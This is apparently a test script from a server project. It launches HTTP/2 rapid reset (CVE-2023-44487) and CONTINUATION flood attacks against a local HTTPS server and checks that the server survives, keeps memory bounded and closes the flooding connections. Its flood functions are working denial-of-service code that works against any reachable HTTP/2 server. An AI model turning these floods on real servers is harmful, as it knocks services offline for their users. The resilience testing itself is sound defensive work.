#!/usr/bin/env python3
"""h2_flood: HTTP/2 rapid reset and CONTINUATION flood over TLS (ALPN h2).

(a) rapid reset (CVE-2023-44487): the client preface and SETTINGS, then K
    pairs of HEADERS (GET /, END_STREAM|END_HEADERS) + RST_STREAM(CANCEL)
    on new odd stream ids, written as fast as the socket takes them.
(b) CONTINUATION flood (CVE-2024-27316 family): HEADERS on stream 1 without
    END_HEADERS, then 16 KiB CONTINUATION frames without END_HEADERS, up to
    --cont-mib MiB, until the server closes the connection.

Both floods are raw frames written with python's ssl module. While they run,
a monitor thread makes a normal HTTPS `GET /` (fresh TLS connection, the CA
verified) every --probe-every seconds; one more follows each flood. The
server's VmRSS (/proc/$HTTPS_PID/status) is sampled before, during and after.

PASS if every monitor GET gets 200 with the secret, the server's RSS grows by
less than --max-rss-mib (default 100) over its starting value, and the
server ends each flood connection (GOAWAY or close) rather than serving it
to the end of the flood (K pairs written and still open, or --cont-mib MiB
taken), each within --max-seconds.

Usage: h2_flood.py [-k K] [--cont-mib MIB] [--addr HOST:PORT] [--ca CA.pem]
  K (default 20000; env K) pairs on each of --connections (default 10;
  env H2_CONNS) connections opened one after the other (the attack of the
  CVE reconnects after each GOAWAY); cont-mib (default 50; env CONT_MIB).
"""

import argparse
import os
import select
import socket
import ssl
import struct
import sys
import threading
import time

sys.dont_write_bytecode = True  # no __pycache__ in the repo
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
import _common as c  # noqa: E402

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = 0, 1, 3, 4, 6, 7, 8, 9
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL = 0x8
TYPE_NAMES = {0: "DATA", 1: "HEADERS", 3: "RST_STREAM", 4: "SETTINGS", 6: "PING", 7: "GOAWAY",
              8: "WINDOW_UPDATE", 9: "CONTINUATION"}
ERRORS = {0: "NO_ERROR", 1: "PROTOCOL_ERROR", 2: "INTERNAL_ERROR", 3: "FLOW_CONTROL_ERROR",
          6: "FRAME_SIZE_ERROR", 7: "REFUSED_STREAM", 8: "CANCEL", 9: "COMPRESSION_ERROR",
          11: "ENHANCE_YOUR_CALM"}
# HPACK: :method GET, :scheme https, :path /, :authority localhost (literal, not indexed).
REQUEST_BLOCK = b"\x82\x87\x84\x01\x09localhost"


def frame(ftype, flags, stream, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream) + payload


class Conn:
    """A non-blocking TLS connection that writes a stream of frames and reads
    whatever the server sends, counting frames, until closed or done."""

    def __init__(self, addr, ca):
        self.sock = c.connect(addr, 10, tls=True, ca=ca, alpn=["h2"])
        if self.sock.selected_alpn_protocol() != "h2":
            raise RuntimeError(f"server chose ALPN {self.sock.selected_alpn_protocol()!r}, not h2")
        self.sock.setblocking(False)
        self.inbuf = b""
        self.out = bytearray()
        self.frames = {}
        self.goaway = None
        self.closed = False
        self.close_why = ""
        self.sent = 0

    def _parse(self):
        while len(self.inbuf) >= 9:
            length = int.from_bytes(self.inbuf[:3], "big")
            if len(self.inbuf) < 9 + length:
                return
            ftype, flags = self.inbuf[3], self.inbuf[4]
            payload = self.inbuf[9:9 + length]
            self.inbuf = self.inbuf[9 + length:]
            name = TYPE_NAMES.get(ftype, str(ftype))
            self.frames[name] = self.frames.get(name, 0) + 1
            if ftype == SETTINGS and not flags & ACK:
                self.out += frame(SETTINGS, ACK, 0)
            elif ftype == PING and not flags & ACK:
                self.out += frame(PING, ACK, 0, payload)
            elif ftype == GOAWAY and len(payload) >= 8:
                last, code = struct.unpack(">II", payload[:8])
                self.goaway = (last & 0x7FFFFFFF, ERRORS.get(code, hex(code)), payload[8:60])

    def pump(self, timeout):
        """Reads and writes what the socket allows within `timeout`."""
        if self.closed:
            return
        r, w, _ = select.select([self.sock], [self.sock] if self.out else [], [], timeout)
        if r or self.sock.pending():
            while True:
                try:
                    data = self.sock.recv(65536)
                except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                    break
                except (OSError, ssl.SSLError) as e:
                    self.closed, self.close_why = True, f"read: {type(e).__name__}"
                    return
                if not data:
                    self.closed, self.close_why = True, "EOF"
                    return
                self.inbuf += data
                self._parse()
        if w and self.out:
            try:
                n = self.sock.send(self.out[:65536])
                del self.out[:n]
                self.sent += n
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                pass
            except (OSError, ssl.SSLError) as e:
                self.closed, self.close_why = True, f"write: {type(e).__name__}"
                self._drain()

    def _drain(self):
        """After a failed write: what the server sent before hanging up
        (a GOAWAY) may still wait in the socket."""
        end = time.monotonic() + 1.0
        while time.monotonic() < end:
            try:
                data = self.sock.recv(65536)
            except (ssl.SSLWantReadError, ssl.SSLWantWriteError, BlockingIOError):
                select.select([self.sock], [], [], 0.05)
                continue
            except (OSError, ssl.SSLError):
                return
            if not data:
                return
            self.inbuf += data
            self._parse()

    def close(self):
        try:
            self.sock.close()
        except OSError:
            pass


class Monitor(threading.Thread):
    """GET / every `every` seconds over fresh TLS connections; samples RSS."""

    def __init__(self, addr, ca, pid, every):
        super().__init__(daemon=True)
        self.addr, self.ca, self.pid, self.every = addr, ca, pid, every
        self.stop = threading.Event()
        self.results = []
        self.rss_peak = c.rss_kib(pid) or 0

    def sample(self):
        r = c.rss_kib(self.pid)
        if r:
            self.rss_peak = max(self.rss_peak, r)

    def run(self):
        while not self.stop.is_set():
            self.sample()
            self.results.append(c.get_secret(self.addr, timeout=10, tls=True, ca=self.ca))
            self.sample()
            self.stop.wait(self.every)


def rapid_reset(addr, ca, k, max_seconds, mon):
    conn = Conn(addr, ca)
    conn.out += PREFACE + frame(SETTINGS, 0, 0)
    t0 = time.monotonic()
    stream = 1
    pairs = 0
    while not conn.closed and time.monotonic() - t0 < max_seconds:
        if pairs < k and len(conn.out) < 256 * 1024:
            batch = bytearray()
            for _ in range(min(500, k - pairs)):
                batch += frame(HEADERS, END_STREAM | END_HEADERS, stream, REQUEST_BLOCK)
                batch += frame(RST_STREAM, 0, stream, struct.pack(">I", CANCEL))
                stream += 2
                pairs += 1
            conn.out += batch
        conn.pump(0.05)
        mon.sample()
        if pairs >= k and not conn.out:
            # Everything is written: give the server a moment to answer or hang up.
            end = time.monotonic() + 2.0
            while not conn.closed and time.monotonic() < end:
                conn.pump(0.2)
            break
    took = time.monotonic() - t0
    conn.close()
    # Pairs the server could have read: those fully written before it hung up.
    pair = len(frame(HEADERS, 0, 1, REQUEST_BLOCK)) + len(frame(RST_STREAM, 0, 1, b"\0" * 4))
    written = min(pairs, max(0, conn.sent - len(PREFACE) - 9) // pair)
    return conn, written, took


def continuation_flood(addr, ca, mib, max_seconds, mon):
    conn = Conn(addr, ca)
    # Literal "x-flood: a...a" (new name, not indexed), 128 bytes: a frame holds
    # 128 whole fields, so the header block stays valid HPACK however long.
    field = b"\x00\x07x-flood\x76" + b"a" * 118
    chunk = field * (16384 // len(field))
    conn.out += PREFACE + frame(SETTINGS, 0, 0)
    conn.out += frame(HEADERS, END_STREAM, 1, REQUEST_BLOCK)  # no END_HEADERS
    budget = mib * 1024 * 1024
    queued = 0
    t0 = time.monotonic()
    while not conn.closed and time.monotonic() - t0 < max_seconds:
        if queued < budget and len(conn.out) < 256 * 1024:
            for _ in range(8):
                conn.out += frame(CONTINUATION, 0, 1, chunk)
                queued += len(chunk)
        conn.pump(0.05)
        mon.sample()
        if queued >= budget and not conn.out:
            end = time.monotonic() + 2.0
            while not conn.closed and time.monotonic() < end:
                conn.pump(0.2)
            break
    took = time.monotonic() - t0
    conn.close()
    return conn, conn.sent, took


def main():
    ap = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    ap.add_argument("-k", "--pairs", type=int, default=c.env_int("K", 20000),
                    help="HEADERS+RST_STREAM pairs of the rapid reset")
    ap.add_argument("--connections", type=int, default=c.env_int("H2_CONNS", 10),
                    help="rapid-reset connections, one after the other, K pairs each")
    ap.add_argument("--cont-mib", type=float, default=c.env_float("CONT_MIB", 50),
                    help="MiB of CONTINUATION frames at most")
    ap.add_argument("--addr", default=c.env("HTTPS_ADDR", "127.0.0.1:5683"))
    ap.add_argument("--ca", default=c.env("CA_PEM"))
    ap.add_argument("--pid", default=c.env("HTTPS_PID"), help="server pid, for RSS (default $HTTPS_PID)")
    ap.add_argument("--max-rss-mib", type=float, default=100)
    ap.add_argument("--max-seconds", type=float, default=25,
                    help="most seconds per flood")
    ap.add_argument("--probe-every", type=float, default=0.5)
    a = ap.parse_args()

    def ended(conn):
        if conn.goaway:
            last, code, debug = conn.goaway
            return f"GOAWAY {code} last_stream={last}" + (f" {debug.decode('latin-1')!r}" if debug else "") + \
                   (" then close" if conn.closed else "")
        return f"closed ({conn.close_why})" if conn.closed else "still open"

    mon = Monitor(a.addr, a.ca, a.pid, a.probe_every)
    rss0 = c.rss_kib(a.pid)
    before = c.get_secret(a.addr, timeout=10, tls=True, ca=a.ca)
    if not before[0]:
        c.verdict("h2_flood", False, f"the server does not answer before the attack: {before[3]}")
    mon.start()
    fails = []
    try:
        rr_pairs, rr_secs, rr_ends, rr_frames = 0, 0.0, {}, {}
        for _ in range(a.connections):
            rr, pairs, secs = rapid_reset(a.addr, a.ca, a.pairs, a.max_seconds, mon)
            rr_pairs, rr_secs = rr_pairs + pairs, rr_secs + secs
            rr_ends[ended(rr)] = rr_ends.get(ended(rr), 0) + 1
            for k, v in rr.frames.items():
                rr_frames[k] = rr_frames.get(k, 0) + v
            if not rr.closed and rr.goaway is None:
                break
        after_rr = c.get_secret(a.addr, timeout=10, tls=True, ca=a.ca)
        rss_rr = c.rss_kib(a.pid)
        cf, cf_bytes, cf_secs = continuation_flood(a.addr, a.ca, a.cont_mib, a.max_seconds, mon)
        after_cf = c.get_secret(a.addr, timeout=10, tls=True, ca=a.ca)
    except (OSError, RuntimeError) as e:
        mon.stop.set()
        c.verdict("h2_flood", False, f"{type(e).__name__}: {e}")
    mon.stop.set()
    mon.join()
    rss1 = c.rss_kib(a.pid)
    alive = c.alive(a.pid)

    rr_end = ", ".join(f"{n}x {e}" for e, n in rr_ends.items())
    cf_end = ended(cf)
    mon_ok = sum(1 for r in mon.results if r[0])
    lat = [r[2] * 1000 for r in mon.results if r[0]]
    growth = ((mon.rss_peak - rss0) / 1024) if rss0 else None
    figures = (
        f"rapid reset: {a.connections} conn(s), {rr_pairs}/{a.pairs * a.connections} pairs written "
        f"in {rr_secs:.1f}s, server sent {dict(sorted(rr_frames.items()))}, {rr_end}; "
        f"CONTINUATION: {cf_bytes / 1048576:.1f}/{a.cont_mib:g} MiB written in {cf_secs:.1f}s, {cf_end}; "
        f"monitor GETs {mon_ok}/{len(mon.results)} ok (p50 {c.percentile(lat, 50):.0f} ms, "
        f"max {max(lat) if lat else float('nan'):.0f} ms), after each flood: "
        f"{after_rr[1]}/{after_cf[1]}; "
        + (f"RSS {rss0 // 1024} MiB -> peak {mon.rss_peak // 1024} MiB (after rapid reset {rss_rr // 1024}) "
           f"-> {rss1 // 1024} MiB" if rss0 and rss1 and rss_rr else "RSS n/a (no --pid)")
    )
    if not alive:
        fails.append("the server process died")
    if mon_ok != len(mon.results) or not after_rr[0] or not after_cf[0]:
        bad = [r for r in mon.results + [after_rr, after_cf] if not r[0]]
        fails.append(f"{len(bad)} normal GET(s) failed (first: {bad[0][3]})")
    if growth is not None and growth >= a.max_rss_mib:
        fails.append(f"RSS grew {growth:.0f} MiB (bound {a.max_rss_mib:g})")
    if not rr.closed and rr.goaway is None:
        fails.append("the rapid-reset connection was served to the end, never ended by the server")
    if not cf.closed and cf.goaway is None:
        fails.append("the CONTINUATION connection was never ended by the server")
    if fails:
        c.verdict("h2_flood", False, "; ".join(fails) + f" | {figures}")
    c.verdict("h2_flood", True, figures)


if __name__ == "__main__":
    main()
